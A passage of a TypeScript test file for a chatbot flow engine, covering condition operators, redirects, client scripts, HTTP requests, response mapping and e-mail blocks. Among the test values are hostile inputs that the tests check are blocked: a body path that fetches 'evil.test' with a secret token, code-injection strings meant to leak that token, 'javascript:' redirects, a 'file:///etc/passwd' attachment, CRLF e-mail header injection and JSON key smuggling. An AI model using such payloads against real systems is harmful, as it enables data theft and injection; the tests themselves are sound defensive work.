    ['Greater than', null, '9', false],
    ['Greater than', '9', 'null', false],
    ['Greater than', 'abcd', '3', true],
    ['Greater than', '+5', '3', false],
    ['Greater than', ['a', 'b'], '1', true],
    ['Greater than', '2024-05-02', '2024-05-01', true],
    ['Greater or equal to', '9', '9', true],
    ['Greater or equal to', '8', '9', false],
    ['Less than', '1.5', '1.6', true],
    ['Less than', '-2', '-3', false],
    ['Less or equal to', '3', '3', true],
    ['Less or equal to', '4', '3', false],
    ['Is set', 'a', undefined, true],
    ['Is set', '', undefined, false],
    ['Is set', null, undefined, false],
    ['Is set', [], undefined, false],
    ['Is empty', '', undefined, true],
    ['Is empty', null, undefined, true],
    ['Is empty', ['a'], undefined, false],
    ['Starts with', 'Hello', ' hE', true],
    ['Starts with', 'Hello', 'lo', false],
    ['Starts with', 'Hello', '', false],
    ['Ends with', 'Hello', 'LO ', true],
    ['Ends with', 'Hello', 'He', false],
    ['Matches regex', 'abc', '^a.c$', true],
    ['Matches regex', 'ABC', '/^abc$/i', true],
    ['Matches regex', 'ABC', '/^abc$/', false],
    ['Matches regex', ['x', 'abc'], '^a', true],
    ['Matches regex', 'abc', '(', false],
    ['Matches regex', null, 'a', false],
    ['Matches regex', 'abc', '', false],
    ['Matches regex', 'abc', '//', false],
    ['Matches regex', 'abc', '//i', false],
    ['Matches regex', '', '^$', false],
    ['Matches regex', ['', 'abc'], 'b', true],
    ['Matches regex', 'abc', '/abc/v', false],
    ['Matches regex', '/docs/new', '/docs/new', true],
    ['Does not match regex', null, 'a', false],
    ['Does not match regex', '', 'a', false],
    ['Does not match regex', [], 'a', false],
    ['Does not match regex', ['', 'x'], 'a', false],
    ['Does not match regex', 'abc', '', false],
    ['Does not match regex', 'abc', 'null', false],
    ['Does not match regex', 'abc', '/x/v', false],
    ['Matches regex', 'a/b', '/', true],
    ['Does not match regex', 'abc', '^b', true],
    ['Does not match regex', 'abc', '^a', false],
    ['Does not match regex', ['x', 'abc'], '^a', false],
    ['Does not match regex', 'abc', '(', false],
    ['Nonsense', 'a', 'a', false],
  ]
  test.each(cases)('%s: %j and %j', async (comparisonOperator, left, value, expected) => {
    const comparison = { id: 'c', variableId: idOf('A'), comparisonOperator, value }
    expect(await decide([{ comparisons: [comparison] }], { A: left, B: 'bb', List: ['l2', 'x'] })).toBe(
      expected,
    )
  })

  async function decide(conditions: unknown[], values: Record<string, unknown>) {
    const items = conditions.map((content, index) => ({ id: `i${index}`, content, to: `yes${index}` }))
    const groups = Object.fromEntries(items.map((_, index) => [`yes${index}`, [text(`yes${index}`)]]))
    const flow = bot({ a: [{ type: 'Condition', items }, text('no')], ...groups }, { variables })
    const client = await chat(flow, given(values))
    return client.texts()[0] === 'yes0' ? true : client.texts()[0] === 'no' ? false : client.texts()[0]
  }

  test.each(['Matches regex', 'Does not match regex'])(
    '%s logs that a flag is not supported',
    async (comparisonOperator) => {
      const comparison = { id: 'c', variableId: idOf('A'), comparisonOperator, value: '/abc/v' }
      const item = { id: 'i', content: { comparisons: [comparison] } }
      const flow = bot({ a: [{ type: 'Condition', items: [item] }, text('no')] }, { variables })
      const client = await chat(flow, given({ A: 'abc' }))
      expect(client.logged('flags other than gimuy')).toMatchObject({ status: 'error', details: '/abc/v' })
    },
  )

  const is = (value: string) => ({ id: 'c', variableId: idOf('A'), comparisonOperator: 'Equal to', value })

  test('several comparisons are joined by the logical operator', async () => {
    const b = { id: 'c', variableId: idOf('B'), comparisonOperator: 'Is set' }
    expect(await decide([{ comparisons: [is('1'), b] }], { A: '1' })).toBe(false)
    expect(await decide([{ comparisons: [is('1'), b] }], { A: '1', B: '2' })).toBe(true)
    expect(await decide([{ logicalOperator: 'OR', comparisons: [is('1'), b] }], { A: '1' })).toBe(true)
    expect(await decide([{ logicalOperator: 'OR', comparisons: [is('1'), b] }], {})).toBe(false)
    expect(await decide([{ comparisons: [] }], {})).toBe(false)
    expect(await decide([{}], {})).toBe(false)
    expect(await decide([null], {})).toBe(false)
    expect(await decide([{ comparisons: [{ id: 'c', comparisonOperator: 'Is empty' }] }], {})).toBe(false)
    expect(
      await decide([{ comparisons: [{ id: 'c', variableId: idOf('A'), value: '1' }] }], { A: '1' }),
    ).toBe(false)
  })

  test('the first item that is true wins, and ends the flow when it leads nowhere', async () => {
    expect(
      await decide([{ comparisons: [is('x')] }, { comparisons: [is('1')] }, { comparisons: [is('1')] }], {
        A: '1',
      }),
    ).toBe('yes1')
    const dead = { type: 'Condition', items: [{ id: 'i', content: { comparisons: [is('1')] } }], to: 'b' }
    const flow = bot({ a: [dead, text('no')], b: [text('b')] }, { variables })
    expect((await chat(flow, given({ A: '1' }))).texts()).toEqual([])
    expect((await chat(flow, given({ A: '2' }))).texts()).toEqual(['b'])
  })
})

describe('page actions', () => {
  const actions = async (block: Part, world: World = {}) =>
    (await runBlock(block, world)).outcome.clientSideActions

  test.each<[string, unknown]>([
    ['https://x.test/{{A}}', 'https://x.test/1'],
    ['x.test', 'https://x.test'],
    ['localhost:3000', 'https://localhost:3000'],
    ['{{A}}.example.com/shop', 'https://1.example.com/shop'],
    ['tel:0800123456', 'tel:0800123456'],
    ['sms:0800123456', 'sms:0800123456'],
    ['MAILTO:24h@example.com', 'MAILTO:24h@example.com'],
    ['ftp:21', 'https://ftp:21'],
    ['/path', '/path'],
    ['mailto:a@x.test', 'mailto:a@x.test'],
    ['javascript:alert(1)', undefined],
    ['data:text/html,x', undefined],
    ['', undefined],
  ])('redirect goes to %s', async (url, expected) => {
    const found = await actions({ type: 'Redirect', options: { url, isNewTab: true } }, given({ A: '1' }))
    expect(found?.[0]).toEqual(
      expected === undefined ? undefined : { type: 'redirect', redirect: { url: expected, isNewTab: true } },
    )
  })

  test('wait becomes a client action with its seconds', async () => {
    expect(
      await actions({ type: 'Wait', options: { secondsToWaitFor: '{{A}}' } }, given({ A: '1,5' })),
    ).toEqual([{ type: 'wait', wait: { secondsToWaitFor: 1.5 } }])
    for (const secondsToWaitFor of ['soon', '', '0', '-5', 'Infinity', 'about 5', null]) {
      expect(await actions({ type: 'Wait', options: { secondsToWaitFor } })).toBeUndefined()
    }
    const waits = { '900': 900, '5s': 5, '2 s': 2, ' 1.5 minutes': 1.5, '86400': 86_400 }
    for (const [given, secondsToWaitFor] of Object.entries(waits)) {
      const action = { type: 'wait', wait: { secondsToWaitFor } }
      expect(await actions({ type: 'Wait', options: { secondsToWaitFor: given } })).toEqual([action])
    }
    const long = await runBlock({ type: 'Wait', options: { secondsToWaitFor: '90000' } })
    expect(long.outcome.clientSideActions).toEqual([{ type: 'wait', wait: { secondsToWaitFor: 86_400 } }])
    expect(long.logged('cut to 86400 seconds')).toBeDefined()
    const paused = await runBlock({ type: 'Wait', options: { secondsToWaitFor: '1', shouldPause: true } })
    expect(paused.outcome.clientSideActions?.[0]).toMatchObject({ type: 'wait', expectsDedicatedReply: true })
    expect(paused.texts()).toEqual([])
    await paused.say()
    expect(paused.texts()).toEqual(['A is '])
  })

  test('script becomes a client action with its code and arguments', async () => {
    const options = { name: 'n', content: 'alert({{A}})', isExecutedOnClient: true, isUnsafe: true }
    expect(await actions({ type: 'Code', options }, given({ A: 'x' }))).toEqual([
      {
        type: 'scriptToExecute',
        scriptToExecute: {
          content: 'alert(variable0_)',
          isUnsafe: true,
          args: [{ id: 'variable0_', value: 'x' }],
        },
      },
    ])
    expect(await actions({ type: 'Code', options: { isExecutedOnClient: true } })).toBeUndefined()
  })

  test('a Code block runs in the browser unless isExecutedOnClient is false', async () => {
    const content = 'document.title = "Hi"'
    for (const isExecutedOnClient of [undefined, true, null, 'false']) {
      const client = await runBlock({ type: 'Code', options: { content, isExecutedOnClient } })
      expect(client.outcome.clientSideActions).toEqual([
        { type: 'scriptToExecute', scriptToExecute: { content, args: [] } },
      ])
      expect(client.logs()).toEqual([])
    }
    const onServer = await runBlock({ type: 'Code', options: { content, isExecutedOnClient: false } })
    expect(onServer.outcome.clientSideActions).toBeUndefined()
    expect(onServer.logged('the script failed')).toMatchObject({ isInternal: true })
  })

  test('an action names the bubble that it comes after', async () => {
    const flow = bot({ a: [text('1'), text('2'), { type: 'Redirect', options: { url: 'x.test' } }] })
    expect((await chat(flow)).outcome.clientSideActions?.[0]?.lastBubbleBlockId).toBe('a.1')
  })

  test('trackers and widgets become client actions, but not in previews', async () => {
    const blocks: [Part, Record<string, unknown>][] = [
      [
        { type: 'Google Analytics', options: { trackingId: 'G-1', value: '{{A}}' } },
        { type: 'googleAnalytics', googleAnalytics: { trackingId: 'G-1', value: 3 } },
      ],
      [
        {
          type: 'Pixel',
          options: { pixelId: 'P', eventType: 'Lead', params: [{ id: 'p', key: 'k', value: '{{A}}' }] },
        },
        {
          type: 'pixel',
          pixel: { pixelId: 'P', eventType: 'Lead', params: [{ id: 'p', key: 'k', value: '3' }] },
        },
      ],
      [{ type: 'Chatwoot', options: { websiteToken: 'T', user: { name: '{{A}}' } } }, { type: 'chatwoot' }],
      [{ type: 'Chatwoot', options: { task: 'Close widget' } }, { type: 'chatwoot' }],
    ]
    for (const [block, expected] of blocks) {
      const live = await runBlock(block, given({ A: '3' }))
      expect(live.outcome.clientSideActions?.at(-1)).toMatchObject(expected)
      expect(live.texts()).toEqual(['A is 3'])
      const preview = await runBlock(block, { options: { resultId: null } })
      expect(preview.outcome.clientSideActions).toBeUndefined()
      expect(preview.logged('not run in previews')).toBeDefined()
      const empty = await runBlock({ type: block.type })
      if (block.options && !('task' in (block.options as object)))
        expect(empty.logged('not configured')).toMatchObject({ isInternal: true })
    }
  })

  test('a chat starts with client actions that load its scripts', async () => {
    const flow = bot(
      {
        a: [
          { type: 'Google Analytics', options: { trackingId: 'G-1' } },
          { type: 'Pixel', options: { pixelId: 'P1' } },
          { type: 'Pixel', options: { pixelId: 'P2', isInitSkip: true } },
        ],
      },
      { settings: { metadata: { tagManagerId: 'GTM-1', customHeadCode: '<script></script>' } } },
    )
    const props = {
      googleAnalyticsId: 'G-1',
      pixelIds: ['P1'],
      gtmId: 'GTM-1',
      customHeadCode: '<script></script>',
    }
    expect((await chat(flow)).outcome.clientSideActions?.[0]).toEqual({
      type: 'startPropsToInject',
      startPropsToInject: props,
    })
    const preview = await chat(flow, { options: { resultId: null } })
    expect(preview.outcome.clientSideActions).toBeUndefined()
  })
})

describe('HTTP requests', () => {
  const ok = (body: string, status = 200): OutboundResponse => ({
    ok: true,
    status,
    headers: {},
    contentType: 'application/json',
    body: new TextEncoder().encode(body),
  })
  const request = (
    webhook: Record<string, unknown>,
    options: Record<string, unknown> = {},
    type = 'Webhook',
  ): Part => ({ type, options: { webhook: { url: 'https://api.test/', ...webhook }, ...options } })

  test('a request without a body of its own sends all answers and variables', async () => {
    const flow = bot(
      { g: [ask(), ask('B'), ask(), request({ method: undefined }), text('done')] },
      { variables },
    )
    for (const resultId of ['result1', null]) {
      const client = await chat(flow, {
        options: { resultId, prefilledVariables: { List: ['x', 'y'] } },
        reply: ok('{}'),
      })
      await client.say('one')
      await client.say('two')
      await client.say('three')
      expect(client.requests).toHaveLength(1)
      expect(client.requests[0]).toMatchObject({
        method: 'POST',
        milliseconds: 10_000,
        headers: { 'content-type': 'application/json' },
      })
      expect(JSON.parse(String(client.requests[0]?.body))).toEqual({
        submittedAt: '2024-05-01T09:30:00.000Z',
        'Title g': 'one',
        B: 'two',
        'Title g (2)': 'three',
        List: 'x, y',
      })
      expect(client.texts()).toEqual(['done'])
    }
  })

  test('a request has placeholders filled in everywhere', async () => {
    const block = request(
      {
        url: 'https://api.test/{{A}}',
        method: 'PUT',
        headers: [
          { id: 'h', key: 'X-{{A}}', value: '{{B}}' },
          { id: 'i', value: 'no key' },
        ],
        queryParams: [{ id: 'q', key: 'q', value: '{{B}}&c' }],
        body: '{"a": "{{B}}", "n": {{A}}, "l": {{List}}, "none": {{C}}, "raw": {{B}}, "in": "{{List}}", "q": "\\"{{B}}"}',
      },
      { isCustomBody: true, timeout: 30 },
    )
    const client = await runBlock(block, { ...given({ A: '7', B: 'x "y"\n', List: ['l'] }), reply: ok('') })
    expect(client.requests[0]).toMatchObject({
      url: 'https://api.test/7?q=x+%22y%22%0A%26c',
      method: 'PUT',
      headers: { 'x-7': 'x "y"' },
    })
    expect(client.requests[0]?.milliseconds).toBe(30_000)
    expect(JSON.parse(String(client.requests[0]?.body))).toEqual({
      a: 'x "y"\n',
      n: 7,
      l: ['l'],
      none: null,
      raw: 'x "y"\n',
      in: '["l"]',
      q: '"x "y"\n',
    })
  })

  test.each([
    [
      'https://api.test/find/{{A}}?q={{A}}&lang=en',
      'tea & cake?',
      '/find/tea%20%26%20cake%3F?q=tea%20%26%20cake%3F&lang=en',
    ],
    ['https://api.test/f/{{A}}?x=1', 'a#b/c', '/f/a%23b%2Fc?x=1'],
    ['https://api.test/f/{{A}}/x', '..', '/f//x'],
    ['https://api.test/f#{{A}}-', 'a b', '/f#a%20b-'],
    ['https://api.test/{{A}}', 'a/b?c=1', '/a/b?c=1'],
    ['https://api.test/x?{{A}}', 'c=1&d=2', '/x?c=1&d=2'],
    ['{{A}}/f/{{B}}', 'https://api.test/v1\n', '/v1/f/B%2FB'],
    ['{{A}}?q={{B}}', 'https://api.test/v1', '/v1?q=B%2FB'],
    ['https://{{A}}/f', 'api.test', '/f'],
    ['https://api.test/f/{{= "a/b" =}}', '', '/f/a%2Fb'],
  ])('values are parts of the address %s', async (url, value, expected) => {
    const client = await runBlock(request({ url, method: 'GET' }), {
      ...given({ A: value, B: 'B/B' }),
      reply: ok(''),
    })
    expect(client.requests[0]?.url).toBe(`https://api.test${expected}`)
  })

  test('query parameters are appended to an address as its author wrote it', async () => {
    const url = 'https://api.test/ok?flag&sig=a%2Fb%20c~*&x[y]=1#end'
    const queryParams = [
      { id: '1', key: 'k', value: 'v w' },
      { id: '2', key: 'none', value: '{{A}}' },
      { id: '3', key: 'empty', value: '' },
    ]
    const client = await runBlock(request({ url, queryParams, method: 'GET' }), { reply: ok('') })
    expect(client.requests[0]?.url).toBe('https://api.test/ok?flag&sig=a%2Fb%20c~*&x[y]=1&k=v+w#end')
    const first = await runBlock(request({ queryParams, method: 'GET' }), { reply: ok('') })
    expect(first.requests[0]?.url).toBe('https://api.test/?k=v+w')
  })

  test('headers are trimmed, joined by their name, and left out when they are empty', async () => {
    const headers = [
      { id: '1', key: 'Authorization', value: 'Bearer {{A}}' },
      { id: '2', key: 'x-trace', value: '{{B}}' },
      { id: '3', key: 'Cookie', value: 'a=1' },
      { id: '4', key: 'cookie', value: 'b=2' },
      { id: '5', key: 'X-Tag', value: 'one\r\n two' },
      { id: '6', key: 'x-tag', value: 'three' },
    ]
    const client = await runBlock(request({ headers, method: 'GET' }), {
      ...given({ A: 'token\n' }),
      reply: ok(''),
    })
    expect(client.requests[0]?.headers).toEqual({
      authorization: 'Bearer token',
      cookie: 'a=1; b=2',
      'x-tag': 'one two, three',
    })
  })

  test('the default body has session variables, and attachments before their answer', async () => {
    const session = [{ id: idOf('S'), name: 'S', isSessionVariable: true, value: 's' }]
    const attachments = { isEnabled: true }
    const inputs = [
      ask(undefined, { options: { attachments } }),
      ask('S', { options: { variableId: idOf('S'), attachments } }),
    ]
    const flow = { ...bot({ g: [...inputs, request({}), text('done')] }), variables: session }
    const client = await chat(flow, { reply: ok('{}') })
    await client.say({
      type: 'text',
      text: 'see',
      attachedFileUrls: ['https://f.test/1', 'https://f.test/2'],
    })
    await client.say({ type: 'text', text: 'also', attachedFileUrls: ['https://f.test/3'] })
    expect(JSON.parse(String(client.requests[0]?.body))).toMatchObject({
      'Title g': 'https://f.test/1, https://f.test/2, see',
      S: 'https://f.test/3, also',
    })
  })

  test('a value cannot add keys to a JSON body', async () => {
    const block = request({ body: '{"age": {{A}}}' }, { isCustomBody: true })
    const client = await runBlock(block, { ...given({ A: '1, "admin": true' }), reply: ok('') })
    expect(JSON.parse(String(client.requests[0]?.body))).toEqual({ age: '1, "admin": true' })
  })

  test.each([
    ['{{A}}', '{"x":1}', {}, '{"x":1}', 'application/json'],
    ['Hello {{A}}', 'you', {}, 'Hello you', 'text/plain; charset=utf-8'],
    ['{{A}} says hi', 'Ada', {}, 'Ada says hi', 'text/plain; charset=utf-8'],
    [' {{A}}, {{A}}', 'Ada', {}, ' Ada, Ada', 'text/plain; charset=utf-8'],
    [' [{{A}}]', 'Ada', {}, ' ["Ada"]', 'application/json'],
    [
      '{"a":"{{A}}","b":2}',
      'x y',
      { key: 'Content-Type', value: 'application/x-www-form-urlencoded' },
      'a=x+y&b=2',
      'application/x-www-form-urlencoded',
    ],
    [
      '{"a":"{{A}}"}',
      '1 & 2',
      { key: 'Content-Type', value: 'application/X-WWW-Form-Urlencoded' },
      'a=1+%26+2',
      'application/X-WWW-Form-Urlencoded',
    ],
    [
      'name={{A}}&b=2',
      'Smith & Sons=ü',
      { key: 'Content-Type', value: 'application/x-www-form-urlencoded' },
      'name=Smith+%26+Sons%3D%C3%BC&b=2',
      'application/x-www-form-urlencoded',
    ],
    ['{"id":{{A}}}', '12345678901234567890', {}, '{"id":12345678901234567890}', 'application/json'],
    [
      '"{{A}}"',
      'a "b"',
      { key: 'content-type', value: 'application/json' },
      '"a \\"b\\""',
      'application/json',
    ],
  ])('a request has the body %s', async (body, value, header, expected, type) => {
    const client = await runBlock(request({ body, headers: [header] }, { isCustomBody: true }), {
      ...given({ A: value }),
      reply: ok(''),
    })
    expect(client.requests[0]).toMatchObject({ body: expected, headers: { 'content-type': type } })
  })

  test('a request that names a proxy is not sent', async () => {
    const client = await runBlock(request({}, { proxyCredentialsId: 'proxy' }), { reply: ok('') })
    expect(client.requests).toEqual([])
    expect(client.logged('through a proxy')).toMatchObject({
      status: 'error',
      isInternal: true,
      context: 'x',
    })
    expect(client.texts()).toEqual(['A is '])
  })

  test('GET sends no body', async () => {
    const client = await runBlock(request({ method: 'GET', body: 'x' }, { isCustomBody: true }), {
      reply: ok(''),
    })
    expect(client.requests[0]).toEqual({
      url: 'https://api.test/',
      method: 'GET',
      headers: {},
      milliseconds: 10_000,
    })
  })

  test.each<[string, unknown]>([
    ['data.name', 'Ada'],
    ['data.list[1].v', '2'],
    ['data["full name"]', 'Ada L'],
    ["data['full name']", 'Ada L'],
    ['statusCode', '200'],
    ['data.list.map(item => item.v)', ['1', '2']],
    ['data.list.length', '2'],
    ['data.nope.deeper', undefined],
    ['data.constructor', undefined],
    ['data.{{B}}', 'Ada'],
    ['data', '{"name":"Ada","full name":"Ada L","list":[{"v":1},{"v":2}]}'],
    ['data.(', 'old'],
  ])('a response mapping reads %s', async (bodyPath, expected) => {
    const block = request({}, { responseVariableMapping: [{ id: 'm', variableId: idOf('A'), bodyPath }] })
    const reply = ok('{"name":"Ada","full name":"Ada L","list":[{"v":1},{"v":2}]}')
    const client = await runBlock(block, { ...given({ A: 'old', B: 'name' }), reply })
    expect(client.value('A')).toEqual(expected)
    expect(client.logged('answered 200')).toMatchObject({ status: 'success', isInternal: true, context: 'x' })
  })

  const secretive =
    '{"token":"secret","rows":[{"name":"5\\" tall","price":3},{"name":"a.b","price":4}],"a.b":{"c":1}}'
  test.each<[string, string, unknown]>([
    ['data.rows.find(i => i.name === "{{B}}").price', '5" tall', '3'],
    ['data.rows.find(i => i.name === "{{B}}").price', 'a" || true) && ({price: data.token}); //', 'old'],
    ['data.rows.find(i => i.name === {{B}}).price', 'a.b', '4'],
    ['data.{{B}}.c', 'a.b', '1'],
    ['data["{{B}}"].c', 'a.b', '1'],
    ['data.rows[{{B}}].name', '1', 'a.b'],
    ['data.rows[{{B}}].name', '0].name + data.token; [0', undefined],
    ['data.rows[{{B}} - 1].name', '2', 'a.b'],
    ['data.{{B}}', 'constructor', undefined],
    ['data.to{{B}}', 'ken', 'secret'],
    ['await fetch("https://evil.test/" + data.token)', '', 'old'],
  ])('a value is never code of the body path %s with %j', async (bodyPath, value, expected) => {
    const block = request({}, { responseVariableMapping: [{ id: 'm', variableId: idOf('A'), bodyPath }] })
    const client = await runBlock(block, { ...given({ A: 'old', B: value }), reply: ok(secretive) })
    expect(client.value('A')).toEqual(expected)
    expect(client.requests).toHaveLength(1)
  })

  const numbers =
    '{"id":12345678901234567890,"price":9.90,"list":[-12345678901234567890,1.0,1e3,7],"o":{"n":12345678901234567890,"s":"12345678901234567890 \\" 1.0"}}'
  test.each<[string, unknown]>([
    ['data.id', '12345678901234567890'],
    ['data.id.value', undefined],
    ['data.price', '9.90'],
    ['data.list', ['-12345678901234567890', '1.0', '1e3', '7']],
    ['data.o', '{"n":12345678901234567890,"s":"12345678901234567890 \\" 1.0"}'],
    ['data', numbers],
    ['"R" + data.id', 'R12345678901234567890'],
    ['data.price * 2 + data.list[1]', '20.8'],
  ])('numbers of a response keep their digits: %s', async (bodyPath, expected) => {
    const options = { responseVariableMapping: [{ id: 'm', variableId: idOf('A'), bodyPath }] }
    const client = await runBlock(request({}, options), { reply: ok(numbers) })
    expect(client.value('A')).toEqual(expected)
    const onClient = await runBlock(request({}, { ...options, isExecutedOnClient: true }))
    await onClient.say(`{"data":${numbers}}`)
    expect(onClient.value('A')).toEqual(expected)
  })

  test('a response that is null leaves the variable empty', async () => {
    const options = { responseVariableMapping: [{ id: 'm', variableId: idOf('A'), bodyPath: 'data' }] }
    const client = await runBlock(request({}, options), { ...given({ A: 'old' }), reply: ok('null') })
    expect(client.texts()).toEqual(['A is '])
    const onClient = await runBlock(
      request({}, { ...options, isExecutedOnClient: true }),
      given({ A: 'old' }),
    )
    await onClient.say('null')
    expect(onClient.texts()).toEqual(['A is '])
  })

  test('failed requests are logged, and the chat continues', async () => {
    const mapped = request(
      {},
      { responseVariableMapping: [{ id: 'm', variableId: idOf('A'), bodyPath: 'statusCode' }] },
    )
    const error = await runBlock(mapped, { reply: ok('broken', 500) })
    expect(error.value('A')).toBe('500')
    expect(error.logged('answered 500')).toMatchObject({ status: 'error', details: 'broken' })
    const rejected = await runBlock(mapped)
    expect(rejected.logged('HTTP request failed')).toMatchObject({
      details: 'The host is in a private network',
      isInternal: true,
    })
    expect(rejected.texts()).toEqual(['A is 400'])
    for (const url of ['', 'nonsense', undefined]) {
      const none = await runBlock(request({ url }))
      expect(none.logged('no valid URL')).toBeDefined()
      expect(none.requests).toEqual([])
    }
  })

  test.each([
    ['refused', 400],
    ['time', 408],
    ['network', 500],
    ['size', 500],
  ] as const)('a request without a response has a status: %s is %d', async (reason, status) => {
    const responseVariableMapping = [
      { id: 'm', variableId: idOf('A'), bodyPath: 'statusCode' },
      { id: 'n', variableId: idOf('B'), bodyPath: 'data.message' },
    ]
    const reply = { ok: false, reason, message: 'What happened' } as const
    const client = await runBlock(request({}, { responseVariableMapping }), { reply })
    expect([client.value('A'), client.value('B')]).toEqual([String(status), 'What happened'])
  })

  test.each([
    ['Basic user:secret', 'Basic dXNlcjpzZWNyZXQ='],
    ['basic  {{A}}', 'Basic dXNlcjpzZWNyZXQ='],
    ['Basic dXNlcjpzZWNyZXQ=', 'Basic dXNlcjpzZWNyZXQ='],
    ['Bearer a:b', 'Bearer a:b'],
  ])('a request has the authorization %s', async (value, authorization) => {
    const block = request({ headers: [{ id: 'h', key: 'Authorization', value }] })
    const client = await runBlock(block, { ...given({ A: 'user:secret' }), reply: ok('') })
    expect(client.requests[0]?.headers).toMatchObject({ authorization })
  })

  test.each(['Zapier', 'Make.com', 'Pabbly'])('%s is an HTTP request', async (type) => {
    const client = await runBlock(request({}, {}, type), { reply: ok('') })
    expect(client.requests[0]?.url).toBe('https://api.test/')
  })

  test('a request of the client is a client action', async () => {
    const options = {
      isExecutedOnClient: true,
      responseVariableMapping: [{ id: 'm', variableId: idOf('A'), bodyPath: 'data.x' }],
    }
    const client = await runBlock(request({ method: 'GET' }, options))
    expect(client.requests).toEqual([])
    expect(client.outcome.clientSideActions).toEqual([
      {
        type: 'httpRequestToExecute',
        expectsDedicatedReply: true,
        httpRequestToExecute: { url: 'https://api.test/', method: 'GET', headers: {} },
      },
    ])
    await client.say('{"statusCode":200,"data":{"x":"y"}}')
    expect(client.texts()).toEqual(['A is y'])
  })

  test.each(['data', 'data.x'])('a response that is nested too deep is a text (%s)', async (bodyPath) => {
    const deep = '['.repeat(5_000) + ']'.repeat(5_000)
    const responseVariableMapping = [{ id: 'm', variableId: idOf('A'), bodyPath }]
    const client = await runBlock(request({ method: 'GET' }, { responseVariableMapping }), {
      reply: ok(deep),
    })
    expect(client.texts()).toEqual([`A is ${bodyPath === 'data' ? deep : ''}`])
    const onClient = await runBlock(
      request({ method: 'GET' }, { isExecutedOnClient: true, responseVariableMapping }),
    )
    await onClient.say(`{"statusCode":200,"data":${deep}}`)
    expect(onClient.texts()[0]).toMatch(/^A is /)
  })

  test('a webhook listener waits for its call', async () => {
    const options = { responseVariableMapping: [{ id: 'm', variableId: idOf('A'), bodyPath: 'data.x' }] }
    const client = await runBlock({ type: 'webhook', options })
    expect(client.outcome.clientSideActions).toEqual([
      { type: 'listenForWebhook', expectsDedicatedReply: true },
    ])
    await client.say({ type: 'webhook', body: '{"data":{"x":"called"}}' })
    expect(client.texts()).toEqual(['A is called'])
    const preview = await runBlock({ type: 'webhook', options }, { options: { resultId: null } })
    await preview.say('{"x":"plain"}')
    expect(preview.texts()).toEqual(['A is plain'])
  })
})

describe('e-mail', () => {
  const mail = (options: Record<string, unknown>): Part => ({
    type: 'Email',
    options: { recipients: ['to@x.test'], subject: 'S {{A}}', ...options },
  })

  test('logs that no mail server is configured', async () => {
    const client = await runBlock(mail({}))
    expect(client.logged('not configured')).toMatchObject({ status: 'error', isInternal: true })
    expect(client.texts()).toEqual(['A is '])
  })

  test('has the sender, recipients, subject and text of the block', async () => {
    const block = mail({
      recipients: ['{{List}}', 'b@x.test, c@x.test', 'bad', 'evil@x.test\r\nBcc: all@x.test'],
      cc: ['cc@x.test'],
      bcc: ['bcc@x.test'],
      replyTo: 'reply@x.test',
      isCustomBody: true,
      body: 'Hello {{A}}',
    })
    const client = await runBlock(block, {
      ...given({ A: '<b>\n', List: ['a@x.test', null] }),
      hasMail: true,
    })
    expect(client.mails).toEqual([
      {
        to: ['a@x.test', 'b@x.test', 'c@x.test'],
        cc: ['cc@x.test'],
        bcc: ['bcc@x.test'],
        replyTo: 'reply@x.test',
        subject: 'S <b>',
        text: 'Hello <b>\n',
        attachments: [],
      },
    ])
    expect(client.logged('was sent')).toMatchObject({ status: 'success' })
    const html = await runBlock(mail({ isCustomBody: true, isBodyCode: true, body: '<p>{{A}}</p>' }), {
      ...given({ A: '<b>' }),
      hasMail: true,
    })
    expect(html.mails[0]).toMatchObject({ html: '<p>&lt;b&gt;</p>' })
  })

  test('accepts names beside addresses', async () => {
    const block = mail({
      recipients: ['Ada <ada@x.org>', '{{List}}', '"Doe, Bob" <bob@x.org>; ada@x.org', 'Eve <eve>'],
      cc: ['{{A}} <cc@x.org>'],
      bcc: ['Mallory\r\nBcc: all@x.org <m@x.org>'],
      replyTo: 'Ada <ada@x.org>',
    })
    const values = given({ A: 'A "B" \\', List: ['Carl <carl@x.org>', 'Ada again <ada@x.org>'] })
    const client = await runBlock(block, { ...values, hasMail: true })
    expect(client.mails[0]).toMatchObject({
      to: ['"Ada" <ada@x.org>', '"Carl" <carl@x.org>', '"Doe, Bob" <bob@x.org>'],
      cc: [expect.stringMatching(/^"[^"\\]*" <cc@x\.org>$/)],
      bcc: [],
      replyTo: '"Ada" <ada@x.org>',
    })
  })

  test('has all answers as its body without one of its own', async () => {
    const client = await chat(bot({ g: [ask('A'), mail({})] }, { variables }), { hasMail: true })
    await client.say('x')
    expect(client.mails[0]?.text).toBe('A: x')
  })

  test('fetches attachments through the outbound client', async () => {
    const reply: OutboundResponse = {
      ok: true,
      status: 200,
      contentType: '',
      headers: {},
      body: new Uint8Array([1]),
    }
    const values = given({ List: ['https://f.test/dir/a%20b.pdf', 'file:///etc/passwd', 'x'] })
    const block = mail({ attachmentsVariableId: idOf('List') })
    const client = await runBlock(block, { ...values, hasMail: true, reply })
    expect(client.requests.map((each) => each.url)).toEqual(['https://f.test/dir/a%20b.pdf'])
    expect(client.mails[0]?.attachments).toEqual([{ filename: 'a_b.pdf', content: new Uint8Array([1]) }])
    const rejected = await runBlock(block, { ...values, hasMail: true })
    expect(rejected.mails[0]?.attachments).toEqual([])
    expect(rejected.logged('attachment')).toBeDefined()
  })

  test('has its body unless isCustomBody is off', async () => {
    const values = { ...given({ A: 'Kim' }), hasMail: true }
    const bodies: (string | undefined)[] = []
    for (const isCustomBody of [undefined, true, false]) {
      const client = await runBlock(mail({ body: 'Welcome, {{A}}', isCustomBody }), values)
      bodies.push(client.mails[0]?.text)
    }
    expect(bodies).toEqual(['Welcome, Kim', 'Welcome, Kim', 'A: Kim'])
    const html = await runBlock(mail({ body: '<b>{{A}}</b>', isBodyCode: true }), values)
    expect(html.mails[0]).toMatchObject({ html: '<b>Kim</b>' })
  })

  test('joins lists in the default body', async () => {
    const client = await runBlock(mail({}), { ...given({ List: ['x', null, 'y'] }), hasMail: true })
    expect(client.mails[0]?.text).toBe('List: x, , y')
  })

  test('goes to an address with white space around it', async () => {
    const client = await runBlock(mail({ recipients: ['{{A}}'] }), {
      ...given({ A: ' a@x.test\n' }),
      hasMail: true,
    })
    expect(client.mails[0]?.to).toEqual(['a@x.test'])
  })

  test('attaches uploads of the chat from the store, without a request', async () => {
    const address = 'https://bots.test/files/bot1/abc/report.pdf'
    const stored = { botId: 'bot1', id: 'abc', name: 'report.pdf', mediaType: 'application/octet-stream' }
    const uploads = (bytes: number) => ({
      maximumSize: 1,
      find: async (addresses: string[]) =>
        new Map(addresses.filter((one) => one === address).map((one) => [one, { ...stored, size: bytes }])),
      read: async ({ id }: { id: string }) =>
